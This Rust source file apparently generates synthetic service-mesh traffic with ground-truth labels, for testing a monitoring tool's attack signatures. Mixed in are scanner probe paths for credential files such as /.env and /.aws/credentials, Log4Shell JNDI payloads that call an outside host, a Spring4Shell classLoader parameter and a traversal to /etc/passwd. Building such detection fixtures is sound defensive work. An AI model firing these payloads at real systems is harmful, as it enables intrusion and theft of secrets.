//! Generated traffic of a realistic service mesh, as audit records: six services in four
//! namespaces (about sixty endpoints with numeric, UUID, hash and token path parameters, static
//! assets with wide fan-out), callers with Istio mTLS identities, kubelet and Prometheus
//! probes, and, mixed in, scanners probing for well-known files and admin consoles and
//! exploit attempts (Log4Shell, Spring4Shell, traversal) against real endpoints.
//!
//! Every record is what the module would write: the request goes through
//! [`crate::evaluate::evaluate`] under a `monitor` allowlist with no rules, the mirror's
//! built-in signatures and an OCSF (or ECS) audit. Deterministic for a seed. Each request also
//! carries the generator's ground truth ([`Label`]), which records do not.

use std::net::{IpAddr, Ipv4Addr};

use meshsight_policy::plugin::{PluginPolicy, Role};

use crate::error::CliError;
use crate::evaluate::evaluate;
use crate::request::ExplainRequest;

/// What a generated request really is.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Label {
    /// A request of the application's own traffic.
    Legitimate,
    /// A scanner's probe for something that is not there (answered 404/405).
    Probe,
    /// An exploit attempt against a real endpoint.
    Attack,
}

/// One generated request and its record.
#[derive(Debug, Clone)]
pub struct GeneratedRecord {
    /// The request.
    pub request: ExplainRequest,
    /// The status the application answered.
    pub status: u16,
    /// The ground truth.
    pub label: Label,
    /// The audit record line the module writes.
    pub line: String,
}

/// A deterministic 64-bit generator (SplitMix64): no dependency, same stream on every machine.
#[derive(Debug, Clone)]
pub struct SplitMix(u64);

impl SplitMix {
    /// A generator for `seed`.
    pub fn new(seed: u64) -> SplitMix {
        SplitMix(seed)
    }

    /// The next value.
    pub fn next_u64(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }

    /// Uniform in `0..n` (`n` > 0).
    pub fn below(&mut self, n: usize) -> usize {
        (self.next_u64() % n.max(1) as u64) as usize
    }

    /// True with probability `p`.
    pub fn chance(&mut self, p: f64) -> bool {
        (self.next_u64() >> 11) as f64 / (1u64 << 53) as f64 <= p
    }

    fn pick<'a, T>(&mut self, items: &'a [T]) -> &'a T {
        &items[self.below(items.len())]
    }

    fn hex(&mut self, len: usize) -> String {
        (0..len)
            .map(|_| char::from(b"0123456789abcdef"[self.below(16)]))
            .collect()
    }

    fn token(&mut self, len: usize) -> String {
        const B64: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
        (0..len).map(|_| char::from(B64[self.below(64)])).collect()
    }

    fn uuid(&mut self) -> String {
        format!(
            "{}-{}-4{}-{}{}-{}",
            self.hex(8),
            self.hex(4),
            self.hex(3),
            char::from(b"89ab"[self.below(4)]),
            self.hex(3),
            self.hex(12)
        )
    }
}

/// Who calls: namespace and service account (mTLS), or a plain address.
#[derive(Debug, Clone, Copy)]
enum Caller {
    Workload(&'static str, &'static str),
    Kubelet,
    Internet,
}

/// A path parameter's kind.
#[derive(Debug, Clone, Copy)]
enum Param {
    Num,
    Uuid,
    Hash,
    Token,
    Slug,
    Asset,
}

struct Endpoint {
    method: &'static str,
    /// Segments; `{…}` entries are parameters by kind: `{n}` `{u}` `{h}` `{t}` `{s}` `{a}`.
    template: &'static str,
    caller: Caller,
    weight: u32,
    query: Option<&'static str>,
}

struct Service {
    host: &'static str,
    endpoints: Vec<Endpoint>,
}

const fn ep(method: &'static str, template: &'static str, caller: Caller, weight: u32) -> Endpoint {
    Endpoint {
        method,
        template,
        caller,
        weight,
        query: None,
    }
}

const FRONTEND: Caller = Caller::Workload("web", "frontend");
const INGRESS: Caller = Caller::Workload("istio-system", "istio-ingressgateway");
const ORDERS: Caller = Caller::Workload("shop", "orders");
const PROMETHEUS: Caller = Caller::Workload("monitoring", "prometheus");

fn mesh() -> Vec<Service> {
    let health = |w| ep("GET", "/healthz", Caller::Kubelet, w);
    vec![
        Service {
            host: "frontend.web.svc.cluster.local",
            endpoints: vec![
                ep("GET", "/", INGRESS, 30),
                ep("GET", "/static/js/{a}", INGRESS, 40),
                ep("GET", "/static/css/{a}", INGRESS, 20),
                ep("GET", "/static/img/products/{a}", INGRESS, 40),
                ep("GET", "/login", INGRESS, 8),
                ep("POST", "/login", INGRESS, 8),
                ep("POST", "/logout", INGRESS, 3),
                ep("GET", "/account", INGRESS, 6),
                Endpoint {
                    query: Some("q"),
                    ..ep("GET", "/search", INGRESS, 15)
                },
                ep("GET", "/products/{n}", INGRESS, 30),
                ep("GET", "/cart", INGRESS, 10),
                health(5),
            ],
        },
        Service {
            host: "catalog.shop.svc.cluster.local",
            endpoints: vec![
                Endpoint {
                    query: Some("page"),
                    ..ep("GET", "/api/v1/products", FRONTEND, 20)
                },
                ep("GET", "/api/v1/products/{n}", FRONTEND, 40),
                ep("GET", "/api/v1/products/{n}/reviews", FRONTEND, 12),
                ep("POST", "/api/v1/products/{n}/reviews", FRONTEND, 3),
                ep("GET", "/api/v1/categories", FRONTEND, 6),
                ep("GET", "/api/v1/categories/{s}", FRONTEND, 10),
                ep("GET", "/api/v1/images/{h}", FRONTEND, 15),
                ep("GET", "/api/v1/products/{n}/variants/{n}", FRONTEND, 6),
                health(5),
                ep("GET", "/metrics", PROMETHEUS, 4),
            ],
        },
        Service {
            host: "cart.shop.svc.cluster.local",
            endpoints: vec![
                ep("GET", "/api/v1/carts/{u}", FRONTEND, 20),
                ep("POST", "/api/v1/carts", FRONTEND, 5),
                ep("GET", "/api/v1/carts/{u}/items", FRONTEND, 8),
                ep("PUT", "/api/v1/carts/{u}/items/{n}", FRONTEND, 10),
                ep("DELETE", "/api/v1/carts/{u}/items/{n}", FRONTEND, 4),
                ep("POST", "/api/v1/carts/{u}/checkout", FRONTEND, 4),
                health(5),
                ep("GET", "/metrics", PROMETHEUS, 4),
            ],
        },
        Service {
            host: "orders.shop.svc.cluster.local",
            endpoints: vec![
                Endpoint {
                    query: Some("page"),
                    ..ep("GET", "/api/v2/orders", FRONTEND, 8)
                },
                ep("GET", "/api/v2/orders/{n}", FRONTEND, 15),
                ep("POST", "/api/v2/orders", FRONTEND, 5),
                ep("GET", "/api/v2/orders/{n}/status", FRONTEND, 10),
                ep("PATCH", "/api/v2/orders/{n}", FRONTEND, 2),
                ep("GET", "/api/v2/orders/{n}/invoice", FRONTEND, 2),
                ep("GET", "/api/v2/orders/{n}/items", FRONTEND, 6),
                ep("POST", "/api/v2/orders/{n}/cancel", FRONTEND, 1),
                health(5),
                ep("GET", "/metrics", PROMETHEUS, 4),
            ],
        },
        Service {
            host: "payments.payments.svc.cluster.local",
            endpoints: vec![
                ep("POST", "/v1/charges", ORDERS, 5),
                ep("GET", "/v1/charges/{t}", ORDERS, 4),
                ep("POST", "/v1/charges/{t}/capture", ORDERS, 4),
                ep("POST", "/v1/refunds", ORDERS, 1),
                ep("GET", "/v1/refunds/{t}", ORDERS, 1),
                ep("POST", "/v1/webhooks/psp", INGRESS, 2),
                health(5),
                ep("GET", "/metrics", PROMETHEUS, 4),
            ],
        },
        Service {
            host: "users.identity.svc.cluster.local",
            endpoints: vec![
                ep("GET", "/users/{n}", FRONTEND, 15),
                ep("PUT", "/users/{n}", FRONTEND, 2),
                ep("GET", "/users/{n}/preferences", FRONTEND, 4),
                ep("GET", "/users/{n}/addresses", ORDERS, 6),
                ep("POST", "/users/{n}/addresses", FRONTEND, 1),
                ep("DELETE", "/users/{n}/addresses/{n}", FRONTEND, 1),
                ep("POST", "/sessions", FRONTEND, 6),
                ep("DELETE", "/sessions/{t}", FRONTEND, 2),
                ep("GET", "/.well-known/jwks.json", INGRESS, 3),
                health(5),
                ep("GET", "/metrics", PROMETHEUS, 4),
            ],
        },
    ]
}

/// Paths scanners try (none exists in the mesh).
const PROBES: &[&str] = &[
    "/.env",
    "/.git/config",
    "/wp-login.php",
    "/wp-admin/",
    "/phpmyadmin/index.php",
    "/admin",
    "/admin/login",
    "/actuator/env",
    "/actuator/heapdump",
    "/server-status",
    "/config.json",
    "/backup.zip",
    "/cgi-bin/luci",
    "/solr/admin/info/system",
    "/console",
    "/.aws/credentials",
    "/HNAP1",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/api/v1/internal/debug",
    "/api/v1/products/export.csv",
    "/api/v2/orders/all",
    "/static/../../etc/passwd",
    "/api/v1/users",
    "/graphql",
    "/v2/api-docs",
    "/swagger-ui.html",
    "/debug/pprof/",
    "/telescope/requests",
    "/xmlrpc.php",
    "/_ignition/execute-solution",
];

/// Exploit payloads (each matched by a built-in signature).
const LOG4SHELL: &[&str] = &[
    "${jndi:ldap://203.0.113.5:1389/a}",
    "${${lower:j}ndi:ldap://203.0.113.5/a}",
    "${jndi:dns://203.0.113.5/a}",
];

const SLUGS: &[&str] = &[
    "books", "games", "garden", "kitchen", "music", "outdoor", "toys", "tools",
];

const ASSET_EXT: &[&str] = &["js", "css", "png", "webp", "svg", "woff2"];
const WORDS: &[&str] = &[
    "app",
    "vendor",
    "main",
    "runtime",
    "logo",
    "hero",
    "banner",
    "icon",
    "thumb",
    "chunk",
    "polyfills",
    "styles",
    "product",
    "sprite",
    "font",
];

/// The policy the generated records were written under: a `monitor` allowlist with no rules,
/// the mirror's built-in signatures, an audit in `format`.
pub fn recording_policy(format: &str) -> Result<PluginPolicy, CliError> {
    let doc = format!(
        r#"{{"allowlist": {{"mode": "monitor", "rules": []}},
            "mirror": {{"targets": {{"ids": {{"cluster": "sensor", "delivery": "dispatch",
                        "max_rps": 1000000, "burst": 1000000, "max_in_flight": 1000000}}}}}},
            "audit": {{"format": "{format}", "record_headers": ["user-agent", "content-type"]}}}}"#
    );
    PluginPolicy::from_json(Role::OnePass, doc.as_bytes()).map_err(|e| CliError::Policy {
        path: "(generated)".into(),
        at: e.path,
        reason: e.reason,
    })
}

/// The generator: a weighted walk over the mesh's endpoints, with probes and attacks mixed in
/// at the given shares.
pub struct MeshTraffic {
    rng: SplitMix,
    services: Vec<Service>,
    total_weight: u32,
    policy: PluginPolicy,
    /// Share of scanner probes.
    pub probe_share: f64,
    /// Share of exploit attempts.
    pub attack_share: f64,
    clock_ns: u64,
}

impl MeshTraffic {
    /// Traffic for `seed`, records in `format` (`ocsf` or `ecs`).
    pub fn new(seed: u64, format: &str) -> Result<MeshTraffic, CliError> {
        let services = mesh();
        let total_weight = services
            .iter()
            .flat_map(|s| &s.endpoints)
            .map(|e| e.weight)
            .sum();
        Ok(MeshTraffic {
            rng: SplitMix::new(seed),
            services,
            total_weight,
            policy: recording_policy(format)?,
            probe_share: 0.05,
            attack_share: 0.03,
            clock_ns: 1_767_225_600_000_000_000,
        })
    }

    /// How many endpoints the mesh has.
    pub fn endpoint_count(&self) -> usize {
        self.services.iter().map(|s| s.endpoints.len()).sum()
    }

    /// The next request and its record.
    pub fn next_record(&mut self) -> GeneratedRecord {
        self.clock_ns += 1_000_000 + self.rng.below(5_000_000) as u64;
        let roll = self.rng.next_u64() as f64 / u64::MAX as f64;
        let (request, status, label) = if roll < self.attack_share {
            self.attack()
        } else if roll < self.attack_share + self.probe_share {
            self.probe()
        } else {
            self.legitimate()
        };
        let mut request = request;
        request
            .headers
            .push(("x-request-id".to_string(), self.rng.uuid()));
        let evaluation = evaluate(&self.policy, &request, status, self.clock_ns);
        let line = evaluation.audit.record.to_string();
        GeneratedRecord {
            request,
            status,
            label,
            line,
        }
    }

    fn endpoint(&mut self) -> (usize, usize) {
        let mut at = self.rng.below(self.total_weight as usize) as u32;
        for (si, s) in self.services.iter().enumerate() {
            for (ei, e) in s.endpoints.iter().enumerate() {
                if at < e.weight {
                    return (si, ei);
                }
                at -= e.weight;
            }
        }
        (0, 0)
    }

    fn param(&mut self, kind: Param) -> String {
        match kind {
            Param::Num => (1 + self.rng.below(200_000)).to_string(),
            Param::Uuid => self.rng.uuid(),
            Param::Hash => self.rng.hex(40),
            Param::Token => format!("ch_{}", self.rng.token(24)),
            Param::Slug => (*self.rng.pick(SLUGS)).to_string(),
            Param::Asset => format!(
                "{}.{}.{}",
                self.rng.pick(WORDS),
                self.rng.hex(8),
                self.rng.pick(ASSET_EXT)
            ),
        }
    }

    fn fill(&mut self, template: &str) -> String {
        let mut path = String::new();
        for seg in template.split('/').skip(1) {
            path.push('/');
            let kind = match seg {
                "{n}" => Some(Param::Num),
                "{u}" => Some(Param::Uuid),
                "{h}" => Some(Param::Hash),
                "{t}" => Some(Param::Token),
                "{s}" => Some(Param::Slug),
                "{a}" => Some(Param::Asset),
                _ => None,
            };
            match kind {
                Some(k) => path.push_str(&self.param(k)),
                None => path.push_str(seg),
            }
        }
        path
    }

    fn caller(&mut self, request: &mut ExplainRequest, caller: Caller) {
        match caller {
            Caller::Workload(ns, sa) => {
                request.principal = Some(format!("spiffe://cluster.local/ns/{ns}/sa/{sa}"));
                request.source_ip = Some(self.pod_ip());
            }
            Caller::Kubelet => request.source_ip = Some(IpAddr::V4(Ipv4Addr::new(10, 0, 0, 1))),
            Caller::Internet => request.source_ip = Some(self.internet_ip()),
        }
    }

    fn pod_ip(&mut self) -> IpAddr {
        IpAddr::V4(Ipv4Addr::new(
            10,
            8,
            self.rng.below(8) as u8,
            2 + self.rng.below(200) as u8,
        ))
    }

    fn internet_ip(&mut self) -> IpAddr {
        IpAddr::V4(Ipv4Addr::new(198, 51, 100, 1 + self.rng.below(250) as u8))
    }

    fn legitimate(&mut self) -> (ExplainRequest, u16, Label) {
        let (si, ei) = self.endpoint();
        let (host, method, template, caller, query) = {
            let s = &self.services[si];
            let e = &s.endpoints[ei];
            (s.host, e.method, e.template, e.caller, e.query)
        };
        let mut path = self.fill(template);
        if let Some(q) = query {
            let value = match q {
                "q" => (*self.rng.pick(WORDS)).to_string(),
                _ => (1 + self.rng.below(20)).to_string(),
            };
            path = format!("{path}?{q}={value}");
        }
        let mut request = ExplainRequest {
            method: method.to_string(),
            path,
            authority: host.to_string(),
            scheme: "http".to_string(),
            ..ExplainRequest::default()
        };
        request
            .headers
            .push(("user-agent".to_string(), "okhttp/4.12.0".to_string()));
        self.caller(&mut request, caller);
        let status = match method {
            "POST" => 201,
            "DELETE" => 204,
            _ => 200,
        };
        (request, status, Label::Legitimate)
    }

    fn probe(&mut self) -> (ExplainRequest, u16, Label) {
        let host = self.services[self.rng.below(self.services.len())].host;
        let (method, path, status) = if self.rng.chance(0.15) {
            // A real path with a method it does not serve.
            let (si, ei) = self.endpoint();
            let template = self.services[si].endpoints[ei].template;
            let path = self.fill(template);
            (
                *self.rng.pick(&["TRACE", "PUT", "DELETE", "OPTIONS"]),
                path,
                405,
            )
        } else if self.rng.chance(0.2) {
            ("GET", format!("/{}.php", self.rng.token(6)), 404)
        } else {
            ("GET", (*self.rng.pick(PROBES)).to_string(), 404)
        };
        let mut request = ExplainRequest {
            method: method.to_string(),
            path,
            authority: host.to_string(),
            scheme: "http".to_string(),
            ..ExplainRequest::default()
        };
        request.headers.push((
            "user-agent".to_string(),
            (*self.rng.pick(&[
                "Mozilla/5.0 zgrab/0.x",
                "Nuclei - Open-source project",
                "curl/7.88.1",
                "python-requests/2.31",
            ]))
            .to_string(),
        ));
        let caller = if self.rng.chance(0.7) {
            Caller::Internet
        } else {
            INGRESS
        };
        self.caller(&mut request, caller);
        (request, status, Label::Probe)
    }

    fn attack(&mut self) -> (ExplainRequest, u16, Label) {
        let (si, ei) = self.endpoint();
        let (host, template) = {
            let s = &self.services[si];
            (s.host, s.endpoints[ei].template)
        };
        let base = self.fill(template);
        let mut request = ExplainRequest {
            method: "GET".to_string(),
            path: base.clone(),
            authority: host.to_string(),
            scheme: "http".to_string(),
            ..ExplainRequest::default()
        };
        let payload = *self.rng.pick(LOG4SHELL);
        match self.rng.below(4) {
            0 => request
                .headers
                .push(("user-agent".to_string(), payload.to_string())),
            1 => {
                request.path = format!("{base}?q={}", encode(payload));
                request
                    .headers
                    .push(("user-agent".to_string(), "curl/7.88.1".to_string()));
            }
            2 => {
                request.path = format!(
                    "{base}?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x"
                );
                request
                    .headers
                    .push(("user-agent".to_string(), "python-requests/2.31".to_string()));
            }
            _ => {
                request.path = format!("{base}/..%2f..%2f..%2fetc%2fpasswd");
                request
                    .headers
                    .push(("user-agent".to_string(), "curl/7.88.1".to_string()));
            }
        }
        self.caller(&mut request, Caller::Internet);
        (request, 200, Label::Attack)
    }
}

fn encode(s: &str) -> String {
    s.bytes()
        .map(|b| match b {
            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'.' | b'_' => {
                char::from(b).to_string()
            }
            _ => format!("%{b:02X}"),
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::records::parse_line;

    #[test]
    fn the_mesh_is_realistic_in_size() {
        let t = MeshTraffic::new(1, "ocsf").unwrap();
        assert!(
            (55..=65).contains(&t.endpoint_count()),
            "{}",
            t.endpoint_count()
        );
    }

    #[test]
    fn records_read_back_and_attacks_are_flagged() {
        let mut t = MeshTraffic::new(7, "ocsf").unwrap();
        let (mut attacks, mut flagged_attacks, mut legit_flagged) = (0, 0, 0);
        for i in 0..3000 {
            let g = t.next_record();
            let r = parse_line(g.line.as_bytes(), i + 1).unwrap();
            assert_eq!(r.method, g.request.method);
            assert_eq!(r.status, Some(g.status));
            match g.label {
                Label::Attack => {
                    attacks += 1;
                    flagged_attacks += usize::from(r.flagged());
                }
                Label::Legitimate => legit_flagged += usize::from(r.flagged()),
                Label::Probe => {}
            }
        }
        assert!(attacks > 40);
        assert_eq!(
            flagged_attacks, attacks,
            "every generated attack matches a signature"
        );
        assert_eq!(legit_flagged, 0, "no legitimate request is flagged");
    }

    #[test]
    fn the_same_seed_gives_the_same_traffic() {
        let mut a = MeshTraffic::new(3, "ecs").unwrap();
        let mut b = MeshTraffic::new(3, "ecs").unwrap();
        for _ in 0..50 {
            assert_eq!(a.next_record().line, b.next_record().line);
        }
    }
}
